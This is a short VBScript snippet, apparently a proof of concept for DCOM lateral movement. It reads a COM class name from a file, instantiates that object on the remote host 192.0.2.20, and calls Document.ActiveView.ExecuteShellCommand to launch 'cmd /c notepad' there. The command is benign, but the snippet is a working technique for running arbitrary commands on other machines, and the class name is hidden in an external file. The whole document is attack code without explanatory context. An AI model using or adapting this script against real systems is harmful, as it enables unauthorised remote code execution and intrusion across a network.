Set box = CreateObject("Scripting.FileSystemObject").OpenTextFile("names.txt")
Set m = CreateObject(box.ReadLine(), "192.0.2.20")
m.Document.ActiveView.ExecuteShellCommand "cmd", Null, "/c notepad", "7"
